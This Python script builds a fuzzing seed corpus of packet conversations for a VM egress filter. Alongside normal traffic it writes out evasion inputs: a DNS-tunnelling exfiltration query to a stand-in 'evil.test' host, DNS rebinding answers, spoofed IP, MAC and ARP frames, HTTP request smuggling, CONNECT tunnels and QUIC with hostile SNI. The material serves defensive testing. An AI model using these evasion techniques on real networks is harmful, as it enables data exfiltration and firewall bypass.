#!/usr/bin/python3
"""Seed corpus for fuzz_dp_frame: short conversations through the fast path, in its input
format (u8 ctl | u16 len | frame). Run: /usr/bin/python3 make_dp_corpus.py OUTDIR

The VMs and policy are the harness's (fuzz_dp_frame.c): agent1 02:00:00:00:00:01
10.77.0.11 fd77::11, agent2 (VLAN 7, audit) 10.77.0.12, agent3 (offline) 10.77.0.13,
resolvers 10.77.0.1 and fd77::1.
"""
import os
import struct
import sys

from scapy.all import (ARP, DNS, DNSQR, DNSRR, ICMP, IP, TCP, UDP, Dot1Q, Ether, ICMPv6ND_NS,
                       IPv6, Raw)

GW = "02:00:00:ee:ee:01"
VMS = {1: ("02:00:00:00:00:01", "10.77.0.11", None), 2: ("02:00:00:00:00:02", "10.77.0.12", 7),
       3: ("02:00:00:00:00:03", "10.77.0.13", None)}
RESOLVER = "10.77.0.1"
VM_PORT, UPLINK, ANSWER_LAST = 0, 1, 0x10


def out(vm, l3):
    mac, _, vlan = VMS[vm]
    eth = Ether(src=mac, dst=GW)
    return eth / Dot1Q(vlan=vlan) / l3 if vlan else eth / l3


def back(vm, l3):
    mac, _, vlan = VMS[vm]
    eth = Ether(src=GW, dst=mac)
    return eth / Dot1Q(vlan=vlan) / l3 if vlan else eth / l3


def query(vm, name, qtype="A", sport=5353, edns=False):
    q = DNS(id=0x1111, rd=1, qd=DNSQR(qname=name, qtype=qtype))
    if edns:
        from scapy.all import DNSRROPT
        q.ar = DNSRROPT(rclass=1232)
        q.arcount = 1
    return out(vm, IP(src=VMS[vm][1], dst=RESOLVER) / UDP(sport=sport, dport=53) / q)


def answer(vm, name, records, sport=5353, qtype="A"):
    an = None
    for owner, rtype, ttl, data in records:
        rr = DNSRR(rrname=owner, type=rtype, ttl=ttl, rdata=data)
        an = rr if an is None else an / rr
    a = DNS(id=0, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype), an=an,
            ancount=len(records))
    return back(vm, IP(src=RESOLVER, dst=VMS[vm][1]) / UDP(sport=53, dport=sport) / a)


def syn(vm, dst, dport, sport=40000):
    return out(vm, IP(src=VMS[vm][1], dst=dst) / TCP(sport=sport, dport=dport, flags="S",
                                                      seq=1000))


def synack(vm, src, sport, dport=40000):
    return back(vm, IP(src=src, dst=VMS[vm][1]) / TCP(sport=sport, dport=dport, flags="SA",
                                                       seq=5000, ack=1001))


def data(vm, dst, dport, payload, sport=40000):
    return out(vm, IP(src=VMS[vm][1], dst=dst) / TCP(sport=sport, dport=dport, flags="PA",
                                                      seq=1001, ack=5001) / Raw(payload))


def udp(vm, dst, dport, payload, sport=44333):
    return out(vm, IP(src=VMS[vm][1], dst=dst) / UDP(sport=sport, dport=dport) / Raw(payload))


def quic(sni, version="v1"):
    """A client Initial for sni (tests/e2e/quic_initial.py builds it)."""
    sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "e2e"))
    import quic_initial
    return quic_initial.initial(sni, version=quic_initial.NAMES[version])


GREASE = b"\xc0\x1a\x2a\x3a\x4a\x08" + bytes(1194)   # a long header of no version read


def rec(ctl, frame):
    b = bytes(frame)
    return struct.pack(">BH", ctl, len(b)) + b


def tcp_dns(vm, msgs, sport=40053, to_vm=False):
    payload = b"".join(struct.pack(">H", len(bytes(m))) + bytes(m) for m in msgs)
    if to_vm:
        return back(vm, IP(src=RESOLVER, dst=VMS[vm][1]) /
                    TCP(sport=53, dport=sport, flags="PA", seq=5001, ack=1001) / Raw(payload))
    return out(vm, IP(src=VMS[vm][1], dst=RESOLVER) /
               TCP(sport=sport, dport=53, flags="PA", seq=1001, ack=5001) / Raw(payload))


def resolved():
    """VM 1 asks for pypi.org and is told 203.0.113.10: where most conversations start."""
    return [rec(VM_PORT, query(1, "pypi.org")),
            rec(UPLINK | ANSWER_LAST, answer(1, "pypi.org", [("pypi.org", "A", 60, "203.0.113.10")]))]


def connected(port):
    """resolved(), then VM 1's handshake with 203.0.113.10:port."""
    return resolved() + [rec(VM_PORT, syn(1, "203.0.113.10", port)),
                         rec(UPLINK, synack(1, "203.0.113.10", port))]


CONVERSATIONS = {
    "resolve_then_connect": [
        *connected(443),
        rec(VM_PORT, data(1, "203.0.113.10", 443, b"\x16\x03\x01\x00\x05hello")),
    ],
    "cname_chain_and_rebind": [
        rec(VM_PORT, query(1, "raw.githubusercontent.com", edns=True)),
        rec(UPLINK | ANSWER_LAST, answer(1, "raw.githubusercontent.com", [
            ("raw.githubusercontent.com", "CNAME", 300, "edge.example.net"),
            ("edge.example.net", "A", 30, "203.0.113.20"),
            ("edge.example.net", "A", 30, "127.0.0.1"),
            ("evil.example", "A", 30, "203.0.113.66")])),
        rec(VM_PORT, syn(1, "203.0.113.66", 443)),
        rec(VM_PORT, syn(1, "203.0.113.20", 443, sport=40001)),
    ],
    "denied_names": [
        rec(VM_PORT, query(1, "upload.pypi.org")),
        rec(VM_PORT, query(1, "exfil-6c6f6e67.evil.test", qtype="TXT", edns=True)),
        rec(VM_PORT, query(3, "pypi.org")),
    ],
    "port_rules": [
        rec(VM_PORT, query(1, "github.com")),
        rec(UPLINK | ANSWER_LAST, answer(1, "github.com", [("github.com", "A", 60, "203.0.113.30")])),
        rec(VM_PORT, syn(1, "203.0.113.30", 22)),
        rec(VM_PORT, syn(1, "203.0.113.30", 443, sport=40002)),
    ],
    "address_patterns": [
        rec(VM_PORT, syn(1, "198.51.100.7", 443)),
        rec(VM_PORT, syn(1, "198.51.100.7", 80, sport=40003)),
        rec(VM_PORT, out(1, IP(src="10.77.0.11", dst="198.51.100.7") / UDP(sport=4444, dport=443) /
                         Raw(b"\xc0\x00\x00\x00\x01"))),
    ],
    "unsolicited_and_spoofed": [
        rec(UPLINK, answer(1, "pypi.org", [("pypi.org", "A", 60, "203.0.113.10")])),
        rec(UPLINK, synack(1, "203.0.113.10", 443)),
        rec(VM_PORT, out(1, IP(src="10.77.0.99", dst="203.0.113.10") / TCP(dport=443, flags="S"))),
        rec(VM_PORT, Ether(src="02:00:00:00:00:99", dst=GW) / IP(src="10.77.0.11", dst="1.2.3.4") /
            TCP(dport=443, flags="S")),
        rec(VM_PORT, data(1, "203.0.113.10", 443, b"no flow")),
        rec(VM_PORT, out(1, IP(src="10.77.0.11", dst="203.0.113.10") / ICMP())),
    ],
    "audit_vm": [
        rec(VM_PORT, query(2, "not-allowed.example")),
        rec(UPLINK | ANSWER_LAST, answer(2, "not-allowed.example",
                                         [("not-allowed.example", "A", 60, "203.0.113.40")])),
        rec(VM_PORT, syn(2, "203.0.113.40", 443)),
    ],
    "arp_and_nd": [
        rec(VM_PORT, out(1, ARP(op=1, hwsrc=VMS[1][0], psrc="10.77.0.11", pdst="10.77.0.1"))),
        rec(VM_PORT, out(1, ARP(op=1, hwsrc=VMS[1][0], psrc="10.77.0.12", pdst="10.77.0.1"))),
        rec(UPLINK, back(1, ARP(op=2, hwsrc=GW, psrc="10.77.0.1", pdst="10.77.0.11"))),
        rec(VM_PORT, out(1, IPv6(src="fe80::1", dst="ff02::1:ff00:1") / ICMPv6ND_NS(tgt="fd77::1"))),
    ],
    "dns_over_tcp": [
        rec(VM_PORT, syn(1, RESOLVER, 53, sport=40053)),
        rec(UPLINK, synack(1, RESOLVER, 53, dport=40053)),
        rec(VM_PORT, tcp_dns(1, [DNS(id=7, rd=1, qd=DNSQR(qname="pypi.org")),
                                 DNS(id=8, rd=1, qd=DNSQR(qname="pypi.org", qtype="AAAA"))])),
        rec(UPLINK, tcp_dns(1, [DNS(id=7, qr=1, qd=DNSQR(qname="pypi.org"),
                                    an=DNSRR(rrname="pypi.org", rdata="203.0.113.10"))],
                            to_vm=True)),
        rec(VM_PORT, syn(1, "203.0.113.10", 443)),
        rec(VM_PORT, tcp_dns(1, [DNS(id=9, rd=1, qd=DNSQR(qname="evil.test"))])),
    ],
    "http_on_port_80": [
        *connected(80),
        rec(VM_PORT, data(1, "203.0.113.10", 80, b"GET / HTTP/1.1\r\nUser-Agent: x\r\n")),
        rec(VM_PORT, out(1, IP(src="10.77.0.11", dst="203.0.113.10") /
                         TCP(sport=40000, dport=80, flags="PA", seq=1001 + 32, ack=5001) /
                         Raw(b"Host: pypi.org\r\nContent-Length: 5\r\n\r\nhelloGET /2 HTTP/1.1"
                             b"\r\nHost: evil.test\r\n\r\n"))),
        rec(UPLINK, back(1, IP(src="203.0.113.10", dst="10.77.0.11") /
                         TCP(sport=80, dport=40000, flags="A", seq=5001, ack=1033))),
    ],
    "first_bytes_on_port_22": [
        *connected(22),
        rec(VM_PORT, data(1, "203.0.113.10", 22, b"\x16\x03\x01\x00\x05hello")),
        rec(VM_PORT, syn(1, "203.0.113.10", 22, sport=40001)),
        rec(UPLINK, synack(1, "203.0.113.10", 22, dport=40001)),
        rec(VM_PORT, data(1, "203.0.113.10", 22, b"SSH-2.0-OpenSSH_9.2\r\n", sport=40001)),
    ],
    "https_record_with_ech": [
        rec(VM_PORT, query(1, "pypi.org", qtype="HTTPS", edns=True)),
        # priority 1, target ".", alpn=h2, ipv4hint=203.0.113.10, ech=0x0004 "abcd"
        rec(UPLINK | ANSWER_LAST, answer(1, "pypi.org", [("pypi.org", 65, 60,
            b"\x00\x01\x00" b"\x00\x01\x00\x03\x02h2" b"\x00\x04\x00\x04\xcb\x00\x71\x0a"
            b"\x00\x05\x00\x04abcd")], qtype="HTTPS")),
    ],
    # the audited VM's QUIC on 443 passes the block and is judged, then every long header
    "quic_whole_handshake": [
        rec(VM_PORT, query(2, "not-allowed.example")),
        rec(UPLINK | ANSWER_LAST, answer(2, "not-allowed.example",
                                         [("not-allowed.example", "A", 60, "203.0.113.40")])),
        rec(VM_PORT, udp(2, "203.0.113.40", 443, quic("not-allowed.example"))),
        rec(VM_PORT, udp(2, "203.0.113.40", 443, b"\x40" + bytes(40))),
        rec(VM_PORT, udp(2, "203.0.113.40", 443, quic("evil.example", "v2"))),
        rec(VM_PORT, udp(2, "203.0.113.40", 443, quic("evil.example", "d29"))),
        rec(VM_PORT, udp(2, "203.0.113.40", 443, GREASE)),
        rec(UPLINK, back(2, IP(src="203.0.113.40", dst="10.77.0.12") /
                         UDP(sport=443, dport=44333) / Raw(b"\x40" + bytes(30)))),
    ],
    # UDP on other ports to a bound address: plain, then what may be QUIC
    "quic_off_port_443": [
        *resolved(),
        rec(VM_PORT, udp(1, "203.0.113.10", 4433, b"\x80\x60" + bytes(198))),
        rec(VM_PORT, udp(1, "203.0.113.10", 4433, quic("pypi.org"))),
        rec(VM_PORT, udp(1, "203.0.113.10", 8443, GREASE)),
        rec(VM_PORT, udp(1, "203.0.113.10", 8443, quic("upload.pypi.org", "d29"),
                         sport=44334)),
    ],
    # first bytes that prove another protocol, and those that do not (issue 23)
    "positive_evidence": [
        *connected(25),
        rec(UPLINK, back(1, IP(src="203.0.113.10", dst="10.77.0.11") /
                         TCP(sport=25, dport=40000, flags="PA", seq=5001, ack=1001) /
                         Raw(b"220 mail.test ESMTP\r\n"))),
        rec(VM_PORT, data(1, "203.0.113.10", 25, b"EHLO agent.test\r\n")),
        rec(VM_PORT, syn(1, "203.0.113.10", 8080, sport=40001)),
        rec(UPLINK, synack(1, "203.0.113.10", 8080, dport=40001)),
        rec(VM_PORT, data(1, "203.0.113.10", 8080, b"GET http://evil.test/\r\n", sport=40001)),
        rec(VM_PORT, syn(1, "203.0.113.10", 5432, sport=40002)),
        rec(UPLINK, synack(1, "203.0.113.10", 5432, dport=40002)),
        rec(VM_PORT, data(1, "203.0.113.10", 5432, b"\x00\x00\x00\x08\x04\xd2\x16\x2f",
                          sport=40002)),
        rec(VM_PORT, syn(1, "203.0.113.10", 2222, sport=40003)),
        rec(UPLINK, synack(1, "203.0.113.10", 2222, dport=40003)),
        rec(VM_PORT, data(1, "203.0.113.10", 2222, b"SSH-2.0-x / HTTP/1.1\r\nHost: evil.test"
                          b"\r\n\r\n", sport=40003)),
    ],
    # CONNECT: refused (the next request is judged), then taken (a tunnel)
    "connect_answers": [
        *connected(8083),
        rec(VM_PORT, data(1, "203.0.113.10", 8083, b"CONNECT pypi.org:443 HTTP/1.1\r\n"
                          b"Host: pypi.org:443\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")),
        rec(UPLINK, back(1, IP(src="203.0.113.10", dst="10.77.0.11") /
                         TCP(sport=8083, dport=40000, flags="PA", seq=5001, ack=1050) /
                         Raw(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"))),
        rec(VM_PORT, syn(1, "203.0.113.10", 8086, sport=40001)),
        rec(UPLINK, synack(1, "203.0.113.10", 8086, dport=40001)),
        rec(VM_PORT, data(1, "203.0.113.10", 8086, b"CONNECT pypi.org:443 HTTP/1.1\r\n"
                          b"Host: pypi.org:443\r\n\r\n\x16\x03\x01", sport=40001)),
        rec(UPLINK, back(1, IP(src="203.0.113.10", dst="10.77.0.11") /
                         TCP(sport=8086, dport=40001, flags="PA", seq=5001, ack=1050) /
                         Raw(b"HTTP/1.1 200 Connection established\r\n\r\n"))),
    ],
    # a head and a hello written in pieces: what cannot complete them goes on first
    "slow_writers": [
        *connected(80),
        rec(VM_PORT, data(1, "203.0.113.10", 80, b"GET / HTTP/1.1\r\nHost: py")),
        rec(UPLINK, back(1, IP(src="203.0.113.10", dst="10.77.0.11") /
                         TCP(sport=80, dport=40000, flags="A", seq=5001, ack=1026))),
        rec(VM_PORT, out(1, IP(src="10.77.0.11", dst="203.0.113.10") /
                         TCP(sport=40000, dport=80, flags="PA", seq=1026, ack=5001) /
                         Raw(b"pi.org\r\n\r"))),
        rec(VM_PORT, out(1, IP(src="10.77.0.11", dst="203.0.113.10") /
                         TCP(sport=40000, dport=80, flags="FA", seq=1034, ack=5001) /
                         Raw(b"\n"))),
        rec(VM_PORT, syn(1, "203.0.113.10", 443, sport=40001)),
        rec(UPLINK, synack(1, "203.0.113.10", 443, dport=40001)),
        rec(VM_PORT, data(1, "203.0.113.10", 443, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
                          sport=40001)),
    ],
    "dns_to_other_server": [
        rec(VM_PORT, out(1, IP(src="10.77.0.11", dst="8.8.8.8") / UDP(sport=5353, dport=53) /
                         DNS(qd=DNSQR(qname="pypi.org")))),
        rec(VM_PORT, out(1, IP(src="10.77.0.11", dst="8.8.8.8") / TCP(dport=53, flags="S"))),
        rec(VM_PORT, out(1, IP(src="10.77.0.11", dst=RESOLVER) / TCP(dport=53, flags="S"))),
    ],
}


def main(outdir):
    os.makedirs(outdir, exist_ok=True)
    for name, records in CONVERSATIONS.items():
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(b"".join(records))


if __name__ == "__main__":
    main(sys.argv[1])
